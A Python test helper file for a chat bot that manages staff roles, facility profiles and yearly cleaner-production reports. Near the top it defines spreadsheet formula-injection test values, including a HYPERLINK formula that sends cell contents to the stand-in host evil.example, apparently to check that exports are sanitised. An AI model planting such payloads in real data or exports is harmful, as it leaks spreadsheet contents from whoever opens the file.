"""Helpers for staff tests: roles, profiles filled through the chat, yearly report states."""

from __future__ import annotations

import sqlite3
from datetime import datetime
from pathlib import Path

from bot.access import Person, Role, grant_role
from bot.app import Bot
from bot.messages import Inbound, Outbound
from bot.report_record import ReportRecord
from bot.report_rules import is_late
from bot.storage.reports import NewRevision
from tests.conftest import invitation_for
from tests.test_onboarding import Chat

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'
HOSTILE_ROLE = "+84 Giám đốc"
HOSTILE_PRODUCT = "@SUM(1+1) bún"


async def make_staff(
    bot: Bot, person: str, role: Role, commune_code: str | None = None, now: datetime | None = None
) -> None:
    channel, _, external_id = person.partition(":")
    async with bot.database.transaction() as store:
        await grant_role(
            store,
            Person(channel, external_id),
            role,
            commune_code,
            "test",
            now or bot.dispatcher.clock(),
        )


async def linked_manager(bot: Bot, facility_code: str, user: str, now: datetime) -> Chat:
    chat = Chat(bot, user)
    await chat.say(await invitation_for(bot, facility_code, now))
    return chat


async def fill_profile(chat: Chat, answers: list[str]) -> str:
    """Answer the six profile questions (already open after linking) and send."""
    for answer in answers:
        await chat.say(answer)
    return await chat.say("Gửi")


async def set_report(bot: Bot, facility_code: str, year: int, status: str) -> None:
    """A yearly report draft in a given state; "submitted" stores a revision too (a
    facility that did not apply SXSH), as the report form does on Submit."""
    now = bot.dispatcher.clock()
    async with bot.database.transaction() as store:
        facility = await store.facilities.by_code(facility_code)
        assert facility is not None
        draft = await store.drafts.open(facility.id, "annual_report", str(year), 1, now)
        await store.drafts.set_status(draft.id, status, now)
        if status == "submitted":
            await store.reports.add(
                NewRevision(
                    facility_id=facility.id,
                    year=year,
                    form_version=1,
                    draft_id=draft.id,
                    submitted_at=now,
                    submitted_by=None,
                    late=is_late(now, year),
                    answers={"applied": False},
                    record=NOT_APPLIED_RECORD,
                )
            )


NOT_APPLIED_RECORD = ReportRecord(
    aware=None,
    aware_how=(),
    staff_trained=None,
    applied=False,
    not_applied_reason=None,
    not_applied_detail=None,
    wants_adviser=None,
    techniques=(),
    measures=(),
    product=None,
    product_unit=None,
    output=None,
    resources=(),
    investment_vnd=None,
    yearly_savings_vnd=None,
    payback_years=None,
    sxsh_unit=None,
    sxsh_unit_people=None,
    remarks=None,
    reporter_name=None,
    reporter_phone=None,
)


async def press(bot: Bot, user: str, data: str) -> list[Outbound]:
    """A console user pressing (or forging) a button's data."""
    inbound = Inbound("console", user, user, "callback", callback_data=data)
    return await bot.dispatcher.handle(inbound)


def facility_id(db: Path, code: str) -> int:
    with sqlite3.connect(db) as connection:
        return int(
            connection.execute("SELECT id FROM facilities WHERE code = ?", (code,)).fetchone()[0]
        )


def audit_rows(db: Path) -> list[tuple[str, str, str | None, str | None]]:
    with sqlite3.connect(db) as connection:
        return connection.execute(
            "SELECT actor, action, target, filter FROM audit_log ORDER BY id"
        ).fetchall()
